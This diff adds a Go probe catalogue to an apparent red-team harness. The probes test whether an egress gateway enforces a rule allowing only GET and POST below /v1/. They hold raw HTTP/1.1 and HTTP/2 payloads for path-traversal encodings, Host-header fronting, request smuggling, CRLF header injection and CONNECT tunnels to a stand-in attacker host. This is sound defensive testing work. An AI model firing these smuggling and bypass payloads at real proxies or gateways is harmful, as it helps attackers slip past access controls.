@@ -1,0 +1,96 @@
+package redteam
+
+import (
+	"bytes"
+	"strings"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+
+	"github.com/custody-project/custody/redteam/world"
+)
+
+// requests are the probes of a rule with http: TLS is opened for it, and only
+// GET and POST below /v1/ may pass.
+func (c *catalogue) requests() {
+	other := world.Fronted
+	for _, h := range []struct {
+		id, title string
+		bypass    Bypass
+		text      string
+	}{
+		{"method", "a method that the rule does not name", OtherWay, "DELETE /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"method-case", "a method in other case", OtherWay, "delete /v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"path", "a path that the rule does not name", OtherWay, "GET /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"path-dots", "dot segments that lead out of the path", OtherWay, "GET /v1/../admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"path-encoded-dots", "the same, encoded", OtherWay, "GET /v1/%2e%2e/admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"path-encoded-slash", "the same with the slash encoded", OtherWay, "GET /v1/..%2fadmin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"path-twice-encoded", "the same, encoded twice", OtherWay, "GET /v1/%252e%252e/admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"path-backslash", "the same with a backslash", OtherWay, "GET /v1/..\\admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"path-parameter", "the same with a parameter", OtherWay, "GET /v1/..;/admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"path-slashes", "an empty segment", OtherWay, "GET //v1//../admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"host", "another Host than the one that TLS is for", Fronting, "GET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
+		{"host-two", "two Hosts", HostHeader, "GET /v1/{T} HTTP/1.1\r\nHost: {H}\r\nHost: {O}\r\n\r\n"},
+		{"absolute", "another host in the request's target", Fronting, "GET https://{O}/v1/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"crlf-before", "an empty line before a request to another Host", LeadingCRLF, "\r\nGET /v1/{T} HTTP/1.1\r\nHost: {O}\r\n\r\n"},
+		{"second-request", "an allowed request, then on the same connection one that is not", HostHeader,
+			"GET /v1/first HTTP/1.1\r\nHost: {H}\r\n\r\nGET /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"connect", "CONNECT inside of TLS", Fronting, "CONNECT {T}." + world.Attacker + ":443 HTTP/1.1\r\nHost: {T}." + world.Attacker + ":443\r\n\r\n"},
+		{"websocket", "an upgrade on a path that the rule does not name", Smuggling,
+			"GET /admin/{T} HTTP/1.1\r\nHost: {H}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"},
+		{"cl-te", "Content-Length and Transfer-Encoding, another request inside", Smuggling,
+			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nContent-Length: 200\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nDELETE /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"te-cl", "the same the other way round", Smuggling,
+			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{N}\r\n{I}\r\n0\r\n\r\n"},
+		{"te-te", "two Transfer-Encodings", Smuggling,
+			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nDELETE /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"te-cased", "a Transfer-Encoding with a tail", Smuggling,
+			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked, x\r\nContent-Length: 3\r\n\r\n0\r\n\r\nDELETE /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+		{"chunk-lf", "a chunk that ends in LF alone", Smuggling,
+			"POST /v1/first HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n0\n\nDELETE /admin/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
+	} {
+		text := c.fill(h.text, world.API, other)
+		c.opened("http/"+h.id, h.title, h.bypass, "http/1.1", []byte(text))
+	}
+	token := c.token()
+	c.opened("http/h2-authority", "another :authority in HTTP/2", Fronting, "h2", h2(":method", "GET", ":scheme", "https", ":authority", other, ":path", "/v1/"+token))
+	token = c.token()
+	c.opened("http/h2-host", "another host beside :authority", HostHeader, "h2",
+		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/v1/"+token, "host", other))
+	token = c.token()
+	c.opened("http/h2-path", "a path that the rule does not name, in HTTP/2", OtherWay, "h2",
+		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/admin/"+token))
+	token = c.token()
+	c.opened("http/h2-crlf", "a header in HTTP/2 with a request inside", Smuggling, "h2",
+		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/v1/x", "x", "y\r\n\r\nGET /admin/"+token+" HTTP/1.1\r\nhost: "+world.API))
+	token = c.token()
+	c.opened("http/h2-path-crlf", "a path in HTTP/2 with a request inside", Smuggling, "h2",
+		h2(":method", "GET", ":scheme", "https", ":authority", world.API, ":path", "/v1/x HTTP/1.1\r\nhost: h\r\n\r\nGET /admin/"+token))
+	token = c.token()
+	c.opened("http/h2-transfer-encoding", "Transfer-Encoding in HTTP/2", Smuggling, "h2",
+		h2(":method", "POST", ":scheme", "https", ":authority", world.API, ":path", "/v1/x-"+token, "transfer-encoding", "chunked"))
+	token = c.token()
+	c.opened("http/h2-connect", "CONNECT in HTTP/2", Fronting, "h2", h2(":method", "CONNECT", ":authority", token+"."+world.Attacker+":443"))
+}
+
+// opened adds a probe that says something inside of the TLS that the gateway opens.
+func (c *catalogue) opened(id, title string, bypass Bypass, alpn string, say []byte) {
+	c.add(Probe{ID: id, Title: title, Bypass: bypass, task: &task{
+		Do: "talk", Name: world.API, Port: 443, TLS: &tlsTask{SNI: world.API, ALPN: []string{alpn}}, Send: []piece{{Data: say}}, Timeout: 8,
+	}})
+}
+
+// h2 is what an HTTP/2 client says to make one request with these header fields,
+// names and values by turns.
+func h2(fields ...string) []byte {
+	var block, out bytes.Buffer
+	enc := hpack.NewEncoder(&block)
+	for i := 0; i < len(fields); i += 2 {
+		enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]}) // a Buffer takes all
+	}
+	out.WriteString(http2.ClientPreface)
+	f := http2.NewFramer(&out, strings.NewReader(""))
+	f.WriteSettings()
+	f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
+	return out.Bytes()
+}
